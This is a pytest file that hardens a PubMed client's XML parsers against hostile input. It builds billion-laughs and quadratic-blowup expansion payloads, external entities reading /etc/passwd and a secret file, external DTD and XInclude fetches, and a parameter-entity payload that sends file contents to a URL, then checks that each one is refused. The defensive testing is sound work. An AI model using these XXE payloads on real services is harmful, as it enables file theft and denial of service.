"""Hostile XML: entity expansion, external entities, DTD and parameter-entity fetching.

Each attack document goes through every entry point the service uses on an answer
(``split_pubmed``, ``parse_pubmed``, ``parse_esearch``) in a fresh Python process, so the
time and memory it costs can be measured honestly: under one second and under 50 MB of
peak RSS growth (``resource.getrusage``; tracemalloc's peak is reported too, but libxml2
allocates outside its view).  Network-reaching attacks point at the local fixture server,
whose request log must stay empty, and file-reading ones at a file holding a marker that
must appear in no output.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from tests.server import FIXTURES, FixtureServer

ROOT = Path(__file__).resolve().parent.parent
MARKER = "PUBTERM-SECRET-MARKER-7f3a"
RECORD = (FIXTURES / "pubmed" / "38048813.xml").read_bytes()
MAX_SECONDS = 1.0
MAX_RSS_MB = 50.0

PROBE = r"""
import json, resource, sys, time, tracemalloc
from pathlib import Path
from tui.data.parse import parse_esearch, parse_pubmed, split_pubmed
from tui.data.errors import PubtermError

warm = Path(sys.argv[1]).read_bytes()
parse_pubmed(warm); split_pubmed(warm)
results = []
for path in sys.argv[2:]:
    xml = Path(path).read_bytes()
    base = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    tracemalloc.start()
    start = time.perf_counter()
    outcomes = []
    for fn in (split_pubmed, parse_pubmed, parse_esearch):
        try:
            value = fn(xml)
            outcomes.append(["ok", repr(value)])
        except PubtermError as err:
            outcomes.append([type(err).__name__, str(err)])
        except BaseException as err:
            outcomes.append(["CRASH", repr(err)])
    seconds = time.perf_counter() - start
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - base
    results.append({"name": Path(path).stem, "seconds": seconds, "rss_kb": grown,
                    "traced_peak": peak, "outcomes": outcomes})
print(json.dumps(results))
"""


def attacks(server_url: str, secret_file: Path) -> dict[str, bytes]:
    """name -> document; every one aims at resources it must never reach."""
    body = RECORD.split(b"<PubmedArticleSet>", 1)[1]
    lol = "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    docs = {
        "billion-laughs": f'<?xml version="1.0"?><!DOCTYPE PubmedArticleSet [<!ENTITY lol0 "lol">'
        f"{lol}]><PubmedArticleSet><PubmedArticle><MedlineCitation><PMID>1"
        "</PMID><Article><ArticleTitle>&lol9;</ArticleTitle></Article>"
        "</MedlineCitation></PubmedArticle></PubmedArticleSet>",
        "quadratic-blowup": '<?xml version="1.0"?><!DOCTYPE PubmedArticleSet [<!ENTITY a "'
        + "A" * 50_000
        + '">]><PubmedArticleSet><PubmedArticle>'
        "<MedlineCitation><PMID>1</PMID><Article><ArticleTitle>"
        + "&a;"
        * 50_000
        + "</ArticleTitle></Article></MedlineCitation>"
        "</PubmedArticle></PubmedArticleSet>",
        "external-entity-passwd": '<?xml version="1.0"?><!DOCTYPE PubmedArticleSet [<!ENTITY x'
        ' SYSTEM "file:///etc/passwd">]><PubmedArticleSet>'
        "<PubmedArticle><MedlineCitation><PMID>1</PMID><Article>"
        "<ArticleTitle>&x;</ArticleTitle></Article></MedlineCitation>"
        "</PubmedArticle></PubmedArticleSet>",
        "external-entity-file": f'<?xml version="1.0"?><!DOCTYPE PubmedArticleSet [<!ENTITY x'
        f' SYSTEM "{secret_file.as_uri()}">]><PubmedArticleSet>'
        "<PubmedArticle><MedlineCitation><PMID>1</PMID><Article>"
        "<ArticleTitle>&x;</ArticleTitle></Article></MedlineCitation>"
        "</PubmedArticle></PubmedArticleSet>",
        "external-entity-http": f'<?xml version="1.0"?><!DOCTYPE PubmedArticleSet [<!ENTITY x'
        f' SYSTEM "{server_url}entity.txt">]><PubmedArticleSet>'
        "<PubmedArticle><MedlineCitation><PMID>1</PMID><Article>"
        "<ArticleTitle>&x;</ArticleTitle></Article></MedlineCitation>"
        "</PubmedArticle></PubmedArticleSet>",
        "external-dtd": f'<?xml version="1.0"?>\n<!DOCTYPE PubmedArticleSet SYSTEM '
        f'"{server_url}pubmed.dtd">\n<PubmedArticleSet>' + body.decode(),
        "external-dtd-entity-use": f'<?xml version="1.0"?>\n<!DOCTYPE PubmedArticleSet PUBLIC'
        f' "-//X//EN" "{server_url}defines-ext.dtd">\n'
        "<PubmedArticleSet><PubmedArticle><MedlineCitation><PMID>1"
        "</PMID><Article><ArticleTitle>&ext;</ArticleTitle></Article>"
        "</MedlineCitation></PubmedArticle></PubmedArticleSet>",
        "parameter-entity": f'<?xml version="1.0"?><!DOCTYPE PubmedArticleSet [<!ENTITY % remote'
        f' SYSTEM "{server_url}param.dtd"> %remote;]><PubmedArticleSet/>',
        "parameter-entity-exfiltration": (
            f'<?xml version="1.0"?><!DOCTYPE PubmedArticleSet [<!ENTITY % file SYSTEM '
            f'"{secret_file.as_uri()}"><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM '
            f"'{server_url}?x=%file;'>\"> %eval; %exfil;]><PubmedArticleSet/>"
        ),
        "xinclude": '<?xml version="1.0"?><PubmedArticleSet xmlns:xi="http://www.w3.org/2001/'
        'XInclude"><PubmedArticle><MedlineCitation><PMID>1</PMID><Article>'
        f'<ArticleTitle>T <xi:include href="{secret_file.as_uri()}" parse="text"/>'
        f' <xi:include href="{server_url}xi.txt" parse="text"/></ArticleTitle>'
        "</Article></MedlineCitation></PubmedArticle></PubmedArticleSet>",
        "esearch-billion-laughs": f'<?xml version="1.0"?><!DOCTYPE eSearchResult [<!ENTITY lol0'
        f' "lol">{lol}]><eSearchResult><Count>1</Count><IdList><Id>'
        "&lol9;</Id></IdList></eSearchResult>",
    }
    out = {name: doc.encode("utf-8") for name, doc in docs.items()}
    # The same expansion attack in UTF-16, which skips the control-byte scrubbing path.
    out["billion-laughs-utf16"] = (
        docs["billion-laughs"]
        .replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>')
        .encode("utf-16")
    )
    return out


# Attacks that must be refused outright; the rest may parse, but reach nothing.
REFUSED = {
    "billion-laughs",
    "quadratic-blowup",
    "external-entity-passwd",
    "external-entity-file",
    "external-entity-http",
    "parameter-entity",
    "parameter-entity-exfiltration",
    "esearch-billion-laughs",
    "billion-laughs-utf16",
}


@pytest.fixture(scope="module")
def measured(
    tmp_path_factory: pytest.TempPathFactory,
) -> tuple[list[dict[str, object]], list[str], dict[str, bytes]]:
    tmp = tmp_path_factory.mktemp("attacks")
    secret = tmp / "secret.txt"
    secret.write_text(MARKER + "\n")
    with FixtureServer() as server:
        docs = attacks(server.url, secret)
        paths = []
        for name, doc in docs.items():
            path = tmp / f"{name}.xml"
            path.write_bytes(doc)
            paths.append(str(path))
        warm = tmp / "warm.xml"
        warm.write_bytes(RECORD)
        proc = subprocess.run(
            [sys.executable, "-c", PROBE, str(warm), *paths],
            cwd=ROOT,
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert proc.returncode == 0, proc.stderr
        requested = [r.path for r in server.logged()]
    return json.loads(proc.stdout), requested, docs


def test_every_attack_was_tried(
    measured: tuple[list[dict[str, object]], list[str], dict[str, bytes]],
) -> None:
    results, _, docs = measured
    assert [r["name"] for r in results] == list(docs)
    assert len(docs) >= 12


@pytest.mark.parametrize(
    "name",
    [
        "billion-laughs",
        "quadratic-blowup",
        "external-entity-passwd",
        "external-entity-file",
        "external-entity-http",
        "external-dtd",
        "external-dtd-entity-use",
        "parameter-entity",
        "parameter-entity-exfiltration",
        "xinclude",
        "esearch-billion-laughs",
        "billion-laughs-utf16",
    ],
)
def test_attack_is_refused_or_neutralised(
    name: str, measured: tuple[list[dict[str, object]], list[str], dict[str, bytes]]
) -> None:
    results, requested, _ = measured
    result = next(r for r in results if r["name"] == name)
    outcomes = result["outcomes"]
    assert isinstance(outcomes, list)
    text = json.dumps(outcomes)
    assert "CRASH" not in [kind for kind, _ in outcomes], outcomes
    assert float(str(result["seconds"])) < MAX_SECONDS, result
    assert int(str(result["rss_kb"])) < MAX_RSS_MB * 1024, result
    assert int(str(result["traced_peak"])) < MAX_RSS_MB * 1024 * 1024, result
    # Nothing read from disk, nothing fetched from the network.
    assert MARKER not in text
    assert "root:x:0:0" not in text
    assert "lollollol" not in text
    assert "A" * 1000 not in text
    assert requested == [], requested
    split, pubmed, esearch = outcomes
    if name in REFUSED:
        if name.startswith("esearch"):
            assert esearch[0] == "ParseError", esearch
        else:
            assert split[0] == "ParseError" and pubmed[0] == "ParseError", outcomes
        assert "entit" in text.lower() or "not valid XML" in text
    else:
        assert pubmed[0] in ("ok", "ParseError"), outcomes


def test_external_dtd_document_still_reads(
    measured: tuple[list[dict[str, object]], list[str], dict[str, bytes]],
) -> None:
    """A DOCTYPE naming an external DTD, as every real answer has, is read without it."""
    results, requested, _ = measured
    result = next(r for r in results if r["name"] == "external-dtd")
    kind, value = result["outcomes"][1]  # type: ignore[index]
    assert kind == "ok" and "38048813" in value
    assert requested == []
